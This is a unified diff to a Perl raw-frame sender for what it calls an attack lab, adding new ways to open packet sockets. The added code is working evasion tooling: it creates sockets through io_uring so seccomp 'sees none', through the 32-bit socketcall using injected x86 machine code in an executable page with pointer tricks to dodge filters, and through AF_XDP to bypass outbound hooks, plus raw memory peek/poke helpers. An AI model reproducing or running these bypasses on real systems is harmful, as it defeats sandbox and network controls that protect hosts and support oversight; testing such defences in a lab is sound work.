@@ -1,11 +1,67 @@
 # Sends given frames through one of the doors to a wire, or waits for a packet. Used by the attack lab only.
 # It refuses to send unless it is in the net namespace that the lab made and named: the second guard.
-use strict; use warnings; use Socket;
+use strict; use warnings; no warnings 'portable'; use Socket;
 my ($verb, $namespace, $interface, @rest) = @ARGV;
 my $here = readlink('/proc/self/ns/net') // '';
 die "refused: this is $here, not net:[$namespace]\n" unless $here eq "net:[$namespace]";
 
 sub index_of { my ($s) = @_; my $q = pack('a16 x24', $interface); ioctl($s, 0x8933, $q) or die "no $interface: $!\n"; return unpack('x16 i', $q); }
+# Memory by its number, which perl itself does not give: a pipe carries bytes there, a pointer shows them.
+sub poke { my ($at, $bytes) = @_; pipe(my $r, my $w) or die "pipe: $!\n"; syscall(1, fileno($w), $bytes, length $bytes); syscall(0, fileno($r), $at, length $bytes) == length $bytes or die "poke: $!\n"; }
+sub peek { my ($at, $length) = @_; return unpack("P$length", pack('J', $at)); }
+sub mapped { my @how = @_; my $at = syscall(9, 0, @how); die "mmap: $!\n" if $at == -1; return $at; }
+sub opened { my ($fd, $how) = @_; die "$how: error $fd\n" if $fd < 0; open(my $s, '+<&=', $fd) or die "open: $!\n"; return $s; }
+
+# A packet socket by io_uring(7): no socket(2) is called, so seccomp sees none.
+sub by_ring {
+  my $p = "\0" x 120; my $fd = syscall(425, 4, $p); die "io_uring_setup: $!\n" if $fd < 0;
+  my ($entries, $completions, undef, undef, undef, $features) = unpack('L6', $p); my @sq = unpack('x40 L10', $p); my @cq = unpack('x80 L10', $p);
+  my $ring = mapped($sq[6] + 4 * $entries + 16 * $completions + 4096, 3, 1, $fd, 0); my $slots = mapped(64 * $entries, 3, 1, $fd, 0x10000000);
+  die "an old ring\n" unless $features & 1;
+  poke($slots, pack('C C S l Q Q L L Q x24', 45, 0, 0, 17, 3, 0, 0, 0, 0)); poke($ring + $sq[6], pack('L', 0)); poke($ring + $sq[1], pack('L', 1));
+  syscall(426, $fd, 1, 1, 1, 0, 0) < 0 and die "io_uring_enter: $!\n";
+  return opened((unpack('Q l', peek($ring + $cq[5], 16)))[1], 'io_uring');
+}
+
+# A packet socket by the 32-bit socketcall(2): its arguments lie in memory, where no filter looks.
+sub by_call32 {
+  require DynaLoader;
+  my $page = mapped(4096, 7, 0x62, -1, 0); my $fd = -1;
+  DynaLoader::dl_install_xsub('main::thirty_two', $page); no strict 'refs';
+  # A filter may look at the pointer's last bits.
+  for my $at (map { $page + 512 + $_ } 0 .. 15) {
+    poke($at, pack('L3', 17, 3, 0));
+    poke($page, "\x53\xb8" . pack('L', 102) . "\xbb" . pack('L', 1) . "\xb9" . pack('L', $at) . "\xcd\x80\xa3" . pack('Q', $page + 1024) . "\x5b\xc3");
+    &{'main::thirty_two'}(); $fd = unpack('l', peek($page + 1024, 4)); last if $fd >= 0;
+  }
+  return opened($fd, 'socketcall');
+}
+
+# Frames by AF_XDP: no packet socket, and past every hook on the way out.
+sub by_xdp {
+  my ($rounds, @frames) = @_; my $many = 16;
+  my $fd = syscall(41, 44, 3, 0); die "socket: $!\n" if $fd < 0;
+  my $area = mapped(4096 * $many, 3, 0x22, -1, 0); my $reg = pack('Q Q L4', $area, 4096 * $many, 4096, 0, 0, 0);
+  syscall(54, $fd, 283, 4, $reg, 32) == 0 or die "umem: $!\n";
+  for my $o (5, 6, 3) { my $size = pack('L', $many); syscall(54, $fd, 283, $o, $size, 4) == 0 or die "ring: $!\n"; }
+  my $off = "\0" x 128; my $len = pack('L', 128); syscall(55, $fd, 283, 1, $off, $len) == 0 or die "offsets: $!\n";
+  my @o = unpack('Q16', $off); my ($produced, $slots) = @o[4, 6]; my ($completed, $taken) = @o[12, 13];
+  my $tx = mapped($slots + 16 * $many, 3, 0x8001, $fd, 0x80000000); my $done = mapped($o[14] + 8 * $many, 3, 0x8001, $fd, 0x180000000);
+  my $to = pack('S S L L L', 44, 2, index_of(any_socket()), 0, 0); syscall(49, $fd, $to, 16) == 0 or die "bind: $!\n";
+  my $sent = 0;
+  for my $round (1 .. $rounds) {
+    for (my $i = 0; $i < @frames; $i += $many) {
+      my @some = grep { defined } @frames[$i .. $i + $many - 1]; my $ring = peek($tx + $slots, 16 * $many);
+      for my $n (0 .. $#some) { my $slot = ($sent + $n) % $many; poke($area + 4096 * $slot, $some[$n]); substr($ring, 16 * $slot, 16) = pack('Q L L', 4096 * $slot, length $some[$n], 0); }
+      poke($tx + $slots, $ring); $sent += @some; poke($tx + $produced, pack('L', $sent & 0xffffffff));
+      for (1 .. 50) { syscall(44, $fd, 0, 0, 0x40, 0, 0); last if unpack('L', peek($done + $completed, 4)) == $sent; select(undef, undef, undef, 0.002); }
+      poke($done + $taken, peek($done + $completed, 4));
+    }
+    select(undef, undef, undef, 0.05);
+  }
+  print "sent $sent\n"; exit 0;
+}
+
 sub any_socket { socket(my $s, AF_INET, SOCK_DGRAM, 0) or die "socket: $!\n"; return $s; }
 
 if ($verb eq 'send') {
@@ -15,6 +71,9 @@ if ($verb eq 'send') {
   if ($door eq 'packet') { socket($s, 17, 3, 0) or die "socket: $!\n"; }
   elsif ($door eq 'old') { socket($s, AF_INET, 10, 0x0300) or die "socket: $!\n"; }
   elsif ($door eq 'wide') { my $fd = syscall(41, (1 << 32) | 17, 3, 0); die "socket: $!\n" if $fd < 0; open($s, '+<&=', $fd) or die "open: $!\n"; }
+  elsif ($door eq 'ring') { $s = by_ring(); }
+  elsif ($door eq 'call32') { $s = by_call32(); }
+  elsif ($door eq 'xdp') { by_xdp($rounds, @frames); }
   else { die "no such door\n"; }
   my $to = $door eq 'old' ? pack('S a14 n', AF_INET, $interface, 0x0806) : pack('S n i S C C a8', 17, 3, index_of(any_socket()), 0, 0, 0, '');
   my $sent = 0;
